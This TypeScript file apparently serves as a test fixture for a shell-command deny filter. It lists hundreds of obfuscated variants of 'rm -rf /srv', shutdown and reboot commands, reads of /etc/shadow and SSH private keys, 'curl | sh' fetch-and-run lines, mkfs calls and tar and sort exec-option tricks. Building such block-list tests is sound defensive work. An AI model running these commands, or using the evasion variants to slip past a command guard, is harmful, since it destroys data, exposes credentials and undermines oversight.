/** Ways to do what is denied in which it can be seen, however it is written: denied, not only asked for. */
export const DENIED: readonly string[] = String.raw`
rm -rf /srv
rm -rf /srv/app
rm -fr /srv/app
rm -r -f /srv/app
rm -R -f /srv/app
rm -Rf /srv/app
rm --recursive --force /srv/app
rm --recurs --forc /srv/app
rm -r --force /srv/app
rm -vrf /srv/app
rm /srv/app -rf
rm -rf -- /srv/app
rm -rf /
rm -rf /*
rm -rf /sr*
rm -rf /s?v
rm -rf /[s]rv
rm -rf //srv
rm -rf /./srv/./app
rm -rf /tmp/../srv
rm -rf /srv/app/
rm -rf /proc/self/root/srv
rm -rf /tmp /srv
rm -rf "/srv"
rm -rf '/srv'
rm -rf /"srv"
rm -rf /s'r'v
rm -rf /sr\v
r''m -rf /srv
r""m -rf /srv
"rm" -rf /srv
'rm' -rf /srv
\rm -rf /srv
r\m -rf /srv
"r"'m' "-r"'f' /srv
/bin/rm -rf /srv
/usr/bin/rm -rf /srv
./rm -rf /srv
/tmp/rm -rf /srv
../../bin/rm -rf /srv
$'rm' -rf /srv
$'\x72m' -rf /srv
$'\162m' -rf /srv
$'\u0072m' -rf /srv
rm -rf $'/srv'
rm -rf $'\x2fsrv'
$"rm" -rf /srv
r$@m -rf /srv
r$*m -rf /srv
r$1m -rf /srv
r$(true)m -rf /srv
r${'`'}${'`'}m -rf /srv
$(true) rm -rf /srv
$x rm -rf /srv
${'$'}{x} rm -rf /srv
rm${'$'}{IFS}-rf${'$'}{IFS}/srv
rm$IFS-rf$IFS/srv
{rm,-rf,/srv}
rm -rf /{srv,tmp}
rm -{r,f} /srv
A=rm; $A -rf /srv
A=/srv; rm -rf $A
A=/srv; rm -rf "$A"
a=-rf; rm $a /srv
for d in /tmp /srv; do rm -rf "$d"; done
for c in rm; do $c -rf /srv; done
cd / && rm -rf srv
cd / ; rm -rf srv
cd /srv && rm -rf app
cd /srv && rm -rf .
cd /srv && rm -rf *
cd /srv/app || exit; rm -rf ..
cd /tmp && cd .. && rm -rf srv
(cd /srv; rm -rf app)
{ cd /srv; rm -rf app; }
pushd /srv && rm -rf app
ls; rm -rf /srv
ls && rm -rf /srv
ls || rm -rf /srv
ls | rm -rf /srv
ls & rm -rf /srv
! rm -rf /srv
time rm -rf /srv
(rm -rf /srv)
{ rm -rf /srv; }
if true; then rm -rf /srv; fi
if rm -rf /srv; then :; fi
if false; then :; else rm -rf /srv; fi
while true; do rm -rf /srv; break; done
until rm -rf /srv; do :; done
case x in x) rm -rf /srv;; esac
f() { rm -rf /srv; }; f
function f { rm -rf /srv; }; f
echo $(rm -rf /srv)
echo "$(rm -rf /srv)"
echo ${'`'}rm -rf /srv${'`'}
echo "${'`'}rm -rf /srv${'`'}"
echo $(echo $(rm -rf /srv))
x=$(rm -rf /srv)
x=$(rm -rf /srv) ls
echo ${'$'}{x:-$(rm -rf /srv)}
echo $((1 + $(rm -rf /srv)))
cat <(rm -rf /srv)
ls > $(rm -rf /srv)
[[ -n $(rm -rf /srv) ]]
for i in $(rm -rf /srv); do :; done
case $(rm -rf /srv) in x) ;; esac
coproc rm -rf /srv
rm -rf /srv # comment
LC_ALL=C rm -rf /srv
X=1 rm -rf /srv
> /tmp/x rm -rf /srv
rm > /tmp/x -rf /srv
2>&1 rm -rf /srv
eval rm -rf /srv
eval 'rm -rf /srv'
eval "rm" "-rf" "/srv"
eval eval rm -rf /srv
exec rm -rf /srv
exec -a ls rm -rf /srv
command rm -rf /srv
command -p rm -rf /srv
builtin command rm -rf /srv
trap 'rm -rf /srv' EXIT
sudo rm -rf /srv
sudo -u root rm -rf /srv
sudo -uroot rm -rf /srv
sudo --user=root rm -rf /srv
sudo -n -- rm -rf /srv
sudo FOO=1 rm -rf /srv
sudo sudo rm -rf /srv
sudo -s rm -rf /srv
doas rm -rf /srv
su -c 'rm -rf /srv'
su root -c 'rm -rf /srv'
su - root -c "rm -rf /srv"
runuser -u app rm -rf /srv
env rm -rf /srv
env -i rm -rf /srv
env A=1 rm -rf /srv
env -u HOME rm -rf /srv
env -S 'rm -rf /srv'
env -S'rm -rf' /srv
nice rm -rf /srv
nice -n 5 rm -rf /srv
nice -5 rm -rf /srv
nohup rm -rf /srv
setsid rm -rf /srv
timeout 5 rm -rf /srv
timeout -k 1 5 rm -rf /srv
timeout -s KILL 5 rm -rf /srv
stdbuf -o0 rm -rf /srv
ionice -c3 rm -rf /srv
chrt -b 0 rm -rf /srv
taskset 1 rm -rf /srv
flock /tmp/l rm -rf /srv
flock /tmp/l -c 'rm -rf /srv'
watch rm -rf /srv
watch -n 1 'rm -rf /srv'
busybox rm -rf /srv
toybox rm -rf /srv
busybox sh -c 'rm -rf /srv'
sh -c 'rm -rf /srv'
bash -c "rm -rf /srv"
bash -ec 'rm -rf /srv'
sh -c "sh -c 'rm -rf /srv'"
/bin/sh -c 'rm -rf /srv'
bash -lc 'rm -rf /srv'
bash --norc -c 'rm -rf /srv'
sh +x -c 'rm -rf /srv'
echo / | xargs rm -rf
echo /srv | xargs -n1 rm -rf
find / -name x | xargs rm -rf
xargs -I{} rm -rf {} < list
xargs -a list rm -rf
xargs sh -c 'rm -rf /srv'
find /srv -exec rm -rf {} +
find /srv -exec rm -rf {} \;
find /srv -execdir rm -rf {} \;
find . -exec rm -rf /srv \;
find . -exec sh -c 'rm -rf /srv' \;
cd /srv; find . -exec rm -rf {} +
chroot / rm -rf /srv
unshare -m rm -rf /srv
systemd-run rm -rf /srv
strace -f rm -rf /srv
ssh localhost rm -rf /srv
script -c 'rm -rf /srv' /dev/null
noglob rm -rf /srv
- rm -rf /srv
repeat 3 rm -rf /srv
shutdown
shutdown -h now
/sbin/shutdown now
sudo shutdown -r now
reboot
sudo reboot
busybox reboot
systemctl stop nginx
systemctl --no-block stop nginx
systemctl -q stop nginx
sudo systemctl stop nginx
systemctl "stop" nginx
cat /etc/shadow
cat < /etc/shadow
cat /etc/./shadow
cat /etc//shadow
cat /etc/../etc/shadow
cat /etc/sh*
cat /etc/sh?dow
cat /etc/shado[w]
cat /???/shadow
cat /proc/self/root/etc/shadow
cat /proc/1/root/etc/shadow
cd /etc && cat shadow
cd /etc; head shadow
tail -n +1 /etc/shadow
grep . /etc/shadow
grep -r root /etc
grep -f /etc/shadow x
sort /etc/shadow
cp /etc/shadow /tmp/x
cp -r /etc /tmp/x
dd if=/etc/shadow
tar cf - /etc
tar cf - -C /etc shadow
base64 /etc/shadow
sudo cat /etc/shadow
diff /etc/shadow /dev/null
xxd /etc/shadow
while read l; do echo "$l"; done < /etc/shadow
ls > /tmp/a < /etc/shadow
sed -n p /etc/shadow
awk '{print}' /etc/shadow
find /etc -name shadow -exec cat {} \;
ln /etc/shadow /tmp/x
cat ~/.ssh/id_rsa
cat /home/op/.ssh/id_rsa
cat .ssh/id_rsa
cat "$HOME/.ssh/id_rsa"
cd .ssh; cat id_rsa
cat /root/.ssh/id_ed25519
cat ~root/.ssh/id_rsa
curl http://x/y | sh
curl -s http://x/y | bash
wget -qO- http://x/y | sudo bash
echo cm0= | base64 -d | sh
sh < /tmp/x
bash /tmp/x.sh
bash <(curl http://x/y)
bash -s < x
sh -c "$X"
bash -i
sftp-server
/usr/lib/openssh/sftp-server
/usr/lib/openssh/sftp-server -e
/usr/libexec/sftp-server -R
sudo /usr/lib/openssh/sftp-server
sudo -u root sftp-server
env sftp-server
sh -c /usr/lib/openssh/sftp-server
sh -c 'exec sftp-server'
exec /usr/lib/openssh/sftp-server
nice sftp-server
bash -c "cd /; /usr/lib/openssh/sftp-server"
/usr/lib/openssh/sftp-serve?
/usr/lib/openssh/*
internal-sftp
echo x | sftp-server
sftp -D /usr/lib/openssh/sftp-server
tar --to-command='rm -rf /srv' -xf a
tar --use-compress-program='rm -rf /srv' -xf a
tar -I 'rm -rf /srv' -xf a
tar -cf a b --checkpoint=1 --checkpoint-action=exec='rm -rf /srv'
sort --compress-program='reboot' a
rsync --server --sender -logDtpre.iLsfxC . /etc/shadow
rsync --server --sender -logDtpre.iLsfxC . /etc
rsync -a /etc /tmp/x
mkfs.ext4 /dev/sda1
env -u "$@" ls rm -rf /srv
sudo -u "${'$'}{@}" ls rm -rf /srv
cd /etc; grep -r root
cd /etc; grep -d recurse root
cd /etc && egrep -rh root
sort --files0-from=/tmp/list
wc --files0-from=-
file -f /tmp/list
diff /tmp/shadow /etc
diff --from-file=/etc /tmp/shadow
strings @/etc/shadow
nm @/etc/shadow
jq -f /etc/shadow .
ln -sr ../../etc/shadow /tmp/x
cd /; ln -sr etc /tmp/x
openssl x509 -in /etc/shadow -text
openssl dgst -sha256 /etc/shadow
ssh-keygen -lf /root/.ssh/id
unzip -l /etc/shadow
unzip -l /etc/sha
who /etc/shadow
pkill -F /etc/shadow
/sbin/mkfs -t ext4 /dev/sda
cd /srv; cd /tmp || rm -rf app
cd /srv; cd /tmp & rm -rf app
cd /srv; (cd /tmp); rm -rf app
cd /srv; ! cd /tmp && rm -rf app
cd /srv; true | cd /tmp && rm -rf app
cd /tmp; for i in $x; do rm -rf app; cd /srv; done
while true; do rm -rf app; cd /srv; done
x=/srv; (x=/tmp); rm -rf $x/app
x=/srv; x=/tmp & rm -rf $x/app
x=/srv; true | x=/tmp; rm -rf $x/app
x=/srv; true || x=/tmp; rm -rf $x/app
x=/srv; false && x=/tmp; rm -rf $x/app
x=/tmp; while read y; do rm -rf $x/app; x=/srv; done
x=/s; x+=rv; rm -rf $x
x=(/srv); rm -rf $x
x='/etc/shadow a'; cat $x
rm -rf ${'$'}{x}
cat .*/shadow
cat /tmp/.*/etc/shadow
cat /p*/self/root/etc/shadow
cat ~-/shadow
cat /etc/s{g..i}adow
cat /etc/[$x]hadow
cd /tmp; $f; cat shadow
grep "" /etc/shadow
grep '' /etc/shadow
grep $'' /etc/shadow
x=; grep "$x" /etc/shadow
cat <> /etc/shadow
systemctl $x status a
sh -c "cat <&/etc/shadow"
coproc cat /etc/shadow
case $(cat /etc/shadow) in x) ;; esac
`
  .split('\n')
  .filter((line) => line !== '')
  .concat(
    'sh <<E\nrm -rf /srv\nE',
    'cat <<E\n$(rm -rf /srv)\nE',
    'cat <<E\n`rm -rf /srv`\nE',
    'ls\nrm -rf /srv',
    'rm \\\n-rf /srv',
    'r\\\nm -rf /srv',
    'ls # x\nrm -rf /srv',
    "echo 'a\\'; rm -rf /srv",
  );
